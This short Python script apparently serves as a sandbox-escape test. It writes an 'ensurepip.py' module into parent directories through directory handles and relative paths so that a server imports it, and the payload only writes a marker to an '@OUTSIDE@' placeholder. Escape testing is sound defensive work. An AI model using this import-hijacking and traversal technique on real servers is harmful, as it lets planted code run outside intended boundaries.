# /// script
# requires-python = ">=3.11"
# dependencies = []
# ///
"""Write a module into the server's folder through an open folder, and have the server import it by name."""

import argparse
import os
import sys
import types

sys.modules['venv.__main__'] = types.ModuleType('venv.__main__')
try:
    for folder in ("..", "../..", "/proc/self/cwd/../.."):
        handle = os.open(folder, os.O_RDONLY)
        file = os.open("ensurepip.py", os.O_WRONLY | os.O_CREAT, dir_fd=handle)
        os.write(file, b"open('@OUTSIDE@', 'w').write('planted')")
except Exception:
    pass
try:
    open("../../ensurepip.py", "w").write("open('@OUTSIDE@', 'w')")
except Exception:
    pass

argparse.ArgumentParser().parse_args()
